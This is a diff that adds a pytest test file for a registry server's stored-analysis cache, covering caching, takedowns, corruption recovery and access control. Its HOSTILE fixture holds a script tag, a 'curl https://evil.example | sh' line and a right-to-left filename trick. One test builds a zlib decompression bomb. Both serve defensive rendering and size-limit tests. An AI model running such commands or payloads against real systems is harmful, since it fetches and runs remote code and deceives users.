@@ -1,0 +1,402 @@
+"""Stored analyses (design/server.md 5): an item's first view is cheap, and nothing stored outlives what it rests on."""
+
+from __future__ import annotations
+
+import hashlib
+import sqlite3
+import time
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from registry_server.accounts import keys as server_keys
+from registry_server.pages import analyses, analysis, analyst, frame, item
+from registry_server.pages.analyses import FILE, Analyses
+from registry_server.pages.analyst import Analyst
+from registry_server.pages.limits import PAGES, PageLimits
+from registry_server.sequencer.ledger import Ledger
+from registry_server.storage import database
+from registry_server.upkeep import takedown
+from rye.items.identity import Identity
+from tests.directive_text import directive
+from tests.server.in_process import Local
+from tests.server.publishing import Publisher
+from tests.server.unexamined import put
+
+HTML, JSON = {"Accept": "text/html"}, {"Accept": "application/json"}
+HOSTILE = "# x\n\n<script>alert(1)</script> ![x](https://evil.example/x.png) curl https://evil.example | sh\n\n\u202egnp.exe\n"
+
+
+class Clock:
+    def __init__(self) -> None:
+        self.now = 1_000.0
+
+    def __call__(self) -> float:
+        return self.now
+
+
+class Shelf:
+    """A registry whose analyst works when the test says so. What is analysed from bytes is counted."""
+
+    def __init__(self, data: Path, patch: pytest.MonkeyPatch, settings: str = "", *, make: bool = True) -> None:
+        patch.setattr(Analyst, "start", lambda _self: None)
+        self.local = Local(data, settings, make=make)
+        self.acme = Publisher("acme")
+        if make:
+            assert self.local.statements(self.local.token(), self.acme.claim()).status_code == 200
+        self.analysed: list[str] = []
+        self.clock = Clock()
+        service = self.local.service
+        self.analyst = service.analyst
+        self.analyst._clock = self.clock
+        self.analyst._published = 0.0
+        self.stored: Analyses = self.analyst._analyses
+        analyse = analysis.analyse
+
+        def counted(record: Any, files: Any) -> Any:
+            self.analysed.append(f"{record.identity.id}@{record.version}")
+            return analyse(record, files)
+
+        for module in (item, analyst):
+            patch.setattr(module, "analyse", counted)
+
+    def put(self, name: str, data: str = "", version: str = "1.0.0", **changes: Any) -> Identity:
+        identity = Identity("directive", f"acme/a/{name}")
+        put(self.local, self.acme, identity, version, (data or directive(f"a/{name}", version)).encode(), **changes)
+        self.local.service.pages.forget_head()
+        return identity
+
+    def catch_up(self) -> None:
+        while self.analyst.round():
+            pass
+
+    def forget_pages(self) -> None:
+        self.local.service.pages._made._values.clear()
+        self.stored._kept._values.clear()
+        self.analysed.clear()
+
+    def page(self, name: str, form: dict[str, str] = HTML, token: str = "", status: int = 200) -> str:
+        answer = self.local.get(f"/-/directive/acme/a/{name}", token, headers=form)
+        assert answer.status_code == status, answer.text
+        return answer.text
+
+    def take_down(self, what: str) -> None:
+        service = self.local.service
+        with database.reader(service.engine) as connection:
+            plan = takedown.plan(Ledger(connection), what, "A court said so")
+        owners = server_keys.in_folder(service.settings.keys, "root")
+        takedown.publish(service.sequencer, takedown.signed(plan.statements, owners))
+        service.pages.forget_head()
+
+    @property
+    def file(self) -> Path:
+        return self.local.data / FILE
+
+    def rows(self) -> list[tuple[str, bytes]]:
+        with sqlite3.connect(self.file) as connection:
+            return connection.execute("SELECT release, value FROM analysis ORDER BY rowid").fetchall()
+
+
+@pytest.fixture
+def shelf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Shelf]:
+    made = Shelf(tmp_path / "data", monkeypatch)
+    yield made
+    made.local.close()
+
+
+class TestWhatIsStored:
+    def test_a_page_nobody_saw_is_made_without_reading_the_release(self, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+        shelf.forget_pages()
+        read: list[str] = []
+        shelf.local.service.pages._store.get_all = lambda paths: read.extend(paths) or []  # type: ignore[method-assign, func-returns-value]
+        assert "Clients refuse" in shelf.page("item")  # the test's bytes are not signed
+        assert (shelf.analysed, read) == ([], [])
+
+    @pytest.mark.parametrize("text", [HOSTILE, "", "# All\n\n" + "A paragraph & more.\n\n" * 2_000])
+    def test_it_says_exactly_what_the_bytes_say(self, shelf: Shelf, text: str) -> None:
+        shelf.put("item", text)
+        made = shelf.page("item"), shelf.page("item", JSON)
+        assert "<script>" not in made[0]
+        shelf.analyst.round()
+        shelf.forget_pages()
+        assert (shelf.page("item"), shelf.page("item", JSON)) == made
+        assert shelf.analysed == []
+
+    def test_what_a_reader_asked_for_first_is_stored_too(self, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.page("item")
+        assert shelf.stored.is_waiting
+        shelf.catch_up()
+        assert [release for release, _ in shelf.rows()] == ["directive:acme/a/item@1.0.0"]
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+
+    def test_it_outlives_the_server(self, shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        again = Shelf(shelf.local.data, monkeypatch, make=False)
+        again.page("item")
+        again.catch_up()
+        assert again.analysed == []
+        again.local.close()
+
+    def test_nothing_of_a_release_whose_bytes_are_missing(self, shelf: Shelf) -> None:
+        identity = shelf.put("item", "Sometimes there\n")
+        with database.reader(shelf.local.service.engine) as connection:
+            assert Ledger(connection).release(str(identity), "1.0.0") is not None
+        shelf.local.service.public.delete(f"blobs/sha256/{'/'.join(_places(b'Sometimes there' + bytes([10])))}")
+        shelf.page("item")
+        shelf.catch_up()
+        assert shelf.rows() == []
+
+    def test_only_the_newest_entries_are_analysed_ahead(self, shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.setattr(analyst, "PAGES", PageLimits(analysed_entries=4))
+        for name in ("one", "two", "three"):
+            shelf.put(name)
+        shelf.catch_up()
+        assert shelf.analysed == ["acme/a/two@1.0.0", "acme/a/three@1.0.0"]
+
+
+def _places(data: bytes) -> tuple[str, str]:
+    sha256 = hashlib.sha256(data).hexdigest()
+    return sha256[:2], sha256
+
+
+class TestOtherCode:
+    def test_what_other_code_stored_is_deleted_and_not_used(self, tmp_path: Path, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        shelf.stored.close()
+        before = shelf.file.stat().st_ino
+        shelf.stored._code = b"another version"
+        shelf.forget_pages()
+        shelf.page("item")
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+        assert shelf.file.stat().st_ino != before or shelf.rows() == []
+        shelf.catch_up()
+        assert len(shelf.rows()) == 1
+
+    def test_the_code_s_identity_has_the_pages_and_the_readers(
+        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+    ) -> None:
+        def code(readers: bytes, pages: str) -> bytes | None:
+            monkeypatch.setattr(analyses, "running_code", lambda: readers)
+            monkeypatch.setattr(frame, "version", lambda: pages)
+            made = Analyses(tmp_path / FILE)
+            made.entries()
+            made.close()
+            return made._code
+
+        assert len({code(b"a", "a"), code(b"b", "a"), code(b"a", "b")}) == 3
+
+
+class TestTakedown:
+    SECRET = "# Title\n\nThe word xyzzy\n"
+
+    def test_what_was_taken_down_leaves_the_file_and_is_overwritten_there(self, shelf: Shelf) -> None:
+        identity = shelf.put("item", self.SECRET)
+        shelf.put("other")
+        shelf.catch_up()
+        value = dict(shelf.rows())[f"{identity}@1.0.0"]
+        assert value in shelf.file.read_bytes()
+        shelf.take_down(f"{identity}@1.0.0")
+        assert "xyzzy" not in shelf.page("item", status=451)  # before the file is looked at
+        shelf.analyst.follow_takedowns()
+        assert [release for release, _ in shelf.rows()] == ["directive:acme/a/other@1.0.0"]
+        data = shelf.file.read_bytes()
+        assert value[-64:] not in data
+        assert value[:64] not in data
+        assert list(shelf.file.parent.glob(f"{FILE}*")) == [shelf.file]
+
+    def test_what_waits_to_be_written_is_not_written_any_more(self, shelf: Shelf) -> None:
+        identity = shelf.put("item", self.SECRET)
+        shelf.page("item")
+        shelf.take_down(f"{identity}@1.0.0")
+        shelf.analyst.round()
+        assert shelf.rows() == []
+
+    def test_the_same_bytes_under_another_name_go_too(self, shelf: Shelf) -> None:
+        for name in ("item", "copy"):
+            shelf.put(name, self.SECRET)
+        shelf.catch_up()
+        shelf.take_down(hashlib.sha256(self.SECRET.encode()).hexdigest())
+        assert "xyzzy" not in shelf.page("copy", status=451)
+        shelf.analyst.follow_takedowns()
+        assert shelf.rows() == []
+
+    def test_a_release_of_one_shared_file_that_is_gone_is_not_shown_from_the_store(self, shelf: Shelf) -> None:
+        identity = shelf.put("item", self.SECRET)
+        shelf.catch_up()
+        with database.writer(
+            shelf.local.service.engine
+        ) as connection:  # as if a statement about another release named it
+            sha256 = hashlib.sha256(self.SECRET.encode()).hexdigest()
+            row = (sha256, 1, "directive:acme/a/other", "1.0.0", "No")
+            connection.exec_driver_sql(
+                "INSERT INTO takedowns (sha256, position, name, version, reason) VALUES (?, ?, ?, ?, ?)", row
+            )
+        shelf.forget_pages()
+        assert "xyzzy" not in shelf.page("item")
+        assert identity.id in shelf.page("item")
+
+    def test_where_it_cannot_be_overwritten_the_whole_file_goes(
+        self, shelf: Shelf, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        identity = shelf.put("item", self.SECRET)
+        shelf.catch_up()
+        holder = sqlite3.connect(shelf.file)
+        holder.execute("BEGIN IMMEDIATE")
+        shelf.take_down(f"{identity}@1.0.0")
+        shelf.analyst.follow_takedowns()
+        assert not shelf.file.exists()
+        holder.close()
+
+
+class TestDamage:
+    def test_a_damaged_row_is_made_again(self, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        made = shelf.page("item")
+        whole = shelf.rows()
+        shelf.stored.close()
+        with sqlite3.connect(shelf.file) as connection:
+            connection.execute("UPDATE analysis SET value = substr(value, 1, 100)")
+        shelf.forget_pages()
+        assert shelf.page("item") == made
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+        shelf.catch_up()
+        assert shelf.rows() == whole
+
+    @pytest.mark.parametrize("value", [b"", "text", 1])
+    def test_a_row_of_another_form_is_none(self, shelf: Shelf, value: object) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        with sqlite3.connect(shelf.file) as connection:
+            connection.execute("UPDATE analysis SET value = ?", (value,))
+        shelf.forget_pages()
+        shelf.page("item")
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+
+    def test_a_row_of_another_release_is_none(self, shelf: Shelf) -> None:
+        for name in ("item", "other"):
+            shelf.put(name)
+        shelf.catch_up()
+        values = [value for _, value in shelf.rows()]
+        with sqlite3.connect(shelf.file) as connection:
+            connection.execute("UPDATE analysis SET value = ?", (values[1],))
+        shelf.forget_pages()
+        assert "a/item" in shelf.page("item")
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+
+    def test_a_row_that_unpacks_to_more_than_an_analysis_may_have_is_none(self, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        with sqlite3.connect(shelf.file) as connection:
+            ((key,),) = connection.execute("SELECT key FROM analysis").fetchall()
+            bomb = zlib.compress(b"\x00" * (PAGES.analysis_bytes + 1))
+            check = hashlib.sha256(key + bomb).digest()[:8]
+            connection.execute("UPDATE analysis SET value = ?", (check + bomb,))
+        shelf.forget_pages()
+        shelf.page("item")
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+
+    @pytest.mark.parametrize("content", [b"", b"not a database" * 1000, b"SQLite format 3\0" + b"\xff" * 5000])
+    def test_a_damaged_file_starts_over(self, shelf: Shelf, content: bytes) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        shelf.stored.close()
+        shelf.file.write_bytes(content)
+        shelf.forget_pages()
+        shelf.page("item")
+        shelf.catch_up()
+        shelf.catch_up()
+        assert [release for release, _ in shelf.rows()] == ["directive:acme/a/item@1.0.0"]
+
+    def test_without_a_usable_file_pages_are_made_each_time(self, shelf: Shelf) -> None:
+        shelf.file.mkdir()
+        shelf.put("item")
+        assert "acme" in shelf.page("item")
+        assert not shelf.stored.is_stored
+        assert not shelf.analyst.round()
+        shelf.local.service.pages._made._values.clear()
+        shelf.analysed.clear()
+        shelf.page("item")
+        assert shelf.analysed == []  # memory still has it
+
+    def test_the_file_is_the_operator_s_own(self, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.catch_up()
+        assert shelf.file.stat().st_mode & 0o777 == 0o600
+
+    def test_of_a_file_that_is_full_the_oldest_rows_go(self, shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.setattr(analyses, "PAGES", PageLimits(analyses_bytes=60_000))
+        monkeypatch.setattr(analyst, "PAGES", PageLimits(analysed_at_once=1, analysis_share=1))
+        names = [f"n{number}" for number in range(24)]
+        for name in names:
+            shelf.put(name)
+        shelf.catch_up()
+        left = [release for release, _ in shelf.rows()]
+        assert left == [f"directive:acme/a/{name}@1.0.0" for name in names[-len(left) :]]
+        assert 2 < len(left) < len(names)
+        assert shelf.file.stat().st_size < 90_000
+
+
+class TestPublishing:
+    def test_a_publish_analyses_nothing(self, shelf: Shelf) -> None:
+        token = shelf.local.token()
+        for number in range(3):
+            assert shelf.local.publish(shelf.acme, f"a/item{number}", token).status_code == 200
+            shelf.analyst.round()
+        assert shelf.analysed == []
+        shelf.clock.now += PAGES.analysis_quiet_seconds
+        shelf.catch_up()
+        assert len(shelf.analysed) == 3
+
+    def test_an_analysis_waits_while_a_publish_is_at_work(self, shelf: Shelf) -> None:
+        shelf.put("item")
+        shelf.local.service._writing += 1
+        assert shelf.analyst.round()
+        assert shelf.analysed == []
+        shelf.local.service._writing -= 1
+        shelf.catch_up()
+        assert shelf.analysed == ["acme/a/item@1.0.0"]
+
+    def test_the_thread_follows_a_publish_and_ends_with_the_server(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        monkeypatch.setattr(analyst, "PAGES", PageLimits(analysis_quiet_seconds=0.01))
+        local, acme = Local(tmp_path / "data"), Publisher("acme")
+        token = local.token()
+        assert local.statements(token, acme.claim()).status_code == 200
+        assert local.publish(acme, "a/item", token).status_code == 200
+        thread, stored = local.service.analyst._thread, local.service.analyst._analyses
+        assert thread is not None
+        until = time.monotonic() + 10
+        with database.reader(local.service.engine) as connection:
+            size = Ledger(connection).size
+        while stored.entries() != size and time.monotonic() < until:
+            time.sleep(0.01)
+        local.close()
+        assert not thread.is_alive()
+        with sqlite3.connect(tmp_path / "data" / FILE) as connection:
+            assert connection.execute("SELECT release FROM analysis").fetchall() == [("directive:acme/a/item@1.0.0",)]
+
+
+def test_a_stored_analysis_is_shown_to_nobody_who_may_not_read_the_item(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shelf = Shelf(tmp_path / "data", monkeypatch, 'read = "namespaces"\n')
+    shelf.put("item", TestTakedown.SECRET)
+    shelf.catch_up()
+    assert len(shelf.rows()) == 1
+    mine, other = (shelf.local.token(name, scopes=["read"]) for name in ("acme", "other"))
+    assert "xyzzy" in shelf.page("item", token=mine)
+    assert "xyzzy" not in shelf.page("item", token=other, status=404)
+    assert "xyzzy" not in shelf.page("item", JSON, token=other, status=404)
+    assert shelf.analysed == ["acme/a/item@1.0.0"]
+    shelf.local.close()
